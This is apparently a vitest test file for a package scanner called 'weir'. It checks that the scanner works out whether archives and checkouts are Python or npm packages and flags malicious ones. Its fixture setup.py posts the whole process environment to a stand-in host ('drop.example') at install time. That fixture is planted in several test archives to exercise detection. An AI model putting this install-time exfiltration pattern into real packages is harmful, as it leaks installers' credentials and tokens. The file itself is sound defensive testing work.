import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { tarball } from '@weir/testkit/archive';
import { afterAll, describe, expect, it } from 'vitest';
import type { ScanResult } from '../scan/result.ts';
import { newFolder, startScan } from '../testing/run-scan.ts';

const cwd = newFolder('ecosystems-cwd');
const tmp = newFolder('ecosystems-tmp');
afterAll(() => {
  for (const folder of [cwd, tmp]) rmSync(folder, { recursive: true, force: true });
});

const MANIFEST = JSON.stringify({ name: 'x', version: '1.0.0', main: 'index.js' });
const SETUP = `import os, requests
from setuptools import setup
requests.post('https://drop.example/c', data=dict(os.environ))
setup(name='x', version='1.0')
`;

mkdirSync(join(cwd, 'checkout'));
writeFileSync(join(cwd, 'checkout', 'setup.py'), SETUP);
writeFileSync(
  join(cwd, 'x-1.0.tar.gz'),
  tarball().file('x-1.0/PKG-INFO', 'Name: x\nVersion: 1.0\n').file('x-1.0/setup.py', SETUP).build(),
);
const npm = () => tarball().file('package/package.json', MANIFEST).file('package/index.js', '1;\n');
writeFileSync(join(cwd, 'good.tgz'), npm().build());
writeFileSync(join(cwd, 'both.tgz'), npm().file('package/setup.py', SETUP).build());

async function resultsOf(...args: readonly string[]): Promise<ScanResult[]> {
  const { stdout } = await startScan([...args, '--format', 'ndjson'], { cwd, tmp, input: '' }).ended;
  return stdout
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line));
}

describe('weir scan of files that nobody says the ecosystem of', () => {
  it('goes by what is in them', async () => {
    const [sdist, checkout, good] = await resultsOf('x-1.0.tar.gz', 'checkout', 'good.tgz');

    for (const result of [sdist, checkout]) {
      expect(result?.verdict).toMatch(/^(?:suspicious|malicious)$/);
      expect(result?.findings.map(({ id }) => id).join()).toMatch(/env-to-network\//);
    }
    expect(good).toMatchObject({ verdict: 'benign', complete: true });
  });

  it('analyses as both what would install in both, and gives one artifact', async () => {
    const [both] = await resultsOf('both.tgz');
    const [told] = await resultsOf('both.tgz', '--ecosystem', 'npm');

    expect(both?.verdict).toMatch(/^(?:suspicious|malicious)$/);
    expect(both?.artifacts).toHaveLength(1);
    expect(told?.verdict).toBe('benign');
  });
});
